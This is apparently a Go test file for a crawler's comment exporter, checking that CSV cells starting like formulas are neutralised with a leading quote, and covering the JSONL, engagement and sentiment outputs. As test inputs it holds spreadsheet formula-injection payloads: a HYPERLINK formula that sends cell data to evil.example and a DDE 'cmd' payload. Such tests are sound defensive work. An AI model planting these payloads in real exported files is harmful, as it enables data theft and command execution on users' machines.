package commentexport

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/blackwidow-crawl/blackwidow/api"
)

// TestCSV_NeutralisesFormulaCells writes comments whose crawled fields
// start like a formula and reads the CSV back: each such cell starts with
// a single quote, every other cell is as stored.
func TestCSV_NeutralisesFormulaCells(t *testing.T) {
	at := time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC)
	tests := []struct {
		name, text, want string
	}{
		{"equals", `=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"minus", "-2+3", "'-2+3"},
		{"at", "@SUM(1,2)", "'@SUM(1,2)"},
		{"tab", "\t=1", "'\t=1"},
		{"carriage return", "\r=1", "'\r=1"},
		{"plain", "a fine day", "a fine day"},
		{"formula later in the text", "price = 3", "price = 3"},
		{"empty", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			w := NewCSV(&b)
			cm := api.Comment{ID: "x1", CrawlerID: 3, Source: "bluesky", Author: tt.text, AuthorID: tt.text, Text: tt.text,
				URL: tt.text, Links: []string{tt.text}, PublishedAt: at}
			if err := w.Write([]api.Comment{cm}); err != nil {
				t.Fatal(err)
			}
			records, err := csv.NewReader(&b).ReadAll()
			if err != nil || len(records) != 2 {
				t.Fatalf("CSV %q: %v", b.String(), err)
			}
			rec := records[1]
			for _, col := range []string{"author", "text", "url", "author_id", "links"} {
				if got := rec[slices.Index(Header, col)]; got != tt.want {
					t.Errorf("%s cell %q, want %q", col, got, tt.want)
				}
			}
			if rec[0] != "x1" || rec[1] != "3" || rec[4] != "2025-03-01T12:00:00Z" {
				t.Errorf("record %q", rec)
			}
		})
	}
}

// TestJSONL_KeepsTextVerbatim: JSON Lines is read by programs, not
// spreadsheets, so a formula-like text stays as it was stored.
func TestJSONL_KeepsTextVerbatim(t *testing.T) {
	var b bytes.Buffer
	text := `=HYPERLINK("http://evil.example/?"&A1,"<click>")`
	if err := NewJSONL(&b).Write([]api.Comment{{ID: "a", Text: text}, {ID: "b", Text: "-x"}}); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
	if len(lines) != 2 {
		t.Fatalf("%d lines: %q", len(lines), b.String())
	}
	var got api.Comment
	if err := json.Unmarshal([]byte(lines[0]), &got); err != nil || got.Text != text || !strings.Contains(lines[0], "<click>") {
		t.Fatalf("line %q: %+v %v", lines[0], got, err)
	}
}

func TestNew_RefusesUnknownFormat(t *testing.T) {
	if _, err := New("xml", &bytes.Buffer{}); err == nil || !strings.Contains(err.Error(), "jsonl, csv") {
		t.Fatalf("err %v", err)
	}
}

// TestCSVWriter_Engagement writes a comment's reposts and likes in the
// last two columns, empty when its source gave none and 0 when nobody had
// shared it.
func TestCSVWriter_Engagement(t *testing.T) {
	var b strings.Builder
	w := NewCSV(&b)
	at := time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC)
	err := w.Write([]api.Comment{
		{ID: "a", CrawlerID: 1, Source: "mastodon", Text: "shared", PublishedAt: at, Engagement: &api.Engagement{Reposts: 12, Likes: 85}},
		{ID: "b", CrawlerID: 1, Source: "mastodon", Text: "fresh", PublishedAt: at, Engagement: &api.Engagement{}},
		{ID: "c", CrawlerID: 1, Source: "rss", Text: "no counts", PublishedAt: at},
	})
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil || len(records) != 4 {
		t.Fatalf("CSV %q: %v", b.String(), err)
	}
	n := len(Header)
	col := func(name string) int { return slices.Index(records[0], name) }
	r, l := col("reposts"), col("likes")
	if r < 0 || l != r+1 || col("text") != r-1 {
		t.Fatalf("header %v", records[0])
	}
	for i, want := range [][2]string{{"12", "85"}, {"0", "0"}, {"", ""}} {
		if rec := records[i+1]; len(rec) != n || rec[r] != want[0] || rec[l] != want[1] {
			t.Errorf("record %v, want reposts %q likes %q", rec, want[0], want[1])
		}
	}
}

func TestCSV_SentimentColumns(t *testing.T) {
	var b strings.Builder
	w := NewCSV(&b)
	err := w.Write([]api.Comment{
		{ID: "a", Lang: "en", LangDetected: true, Sentiment: &api.Sentiment{Label: api.SentimentNegative, Score: -0.75}},
		{ID: "b", Lang: "de"},
	})
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	n := len(Header)
	if got := records[1][n-3:]; !slices.Equal(got, []string{"true", "negative", "-0.75"}) {
		t.Fatalf("scored comment: %q", got)
	}
	if got := records[2][n-3:]; !slices.Equal(got, []string{"", "", ""}) {
		t.Fatalf("unscored comment: %q", got)
	}
}
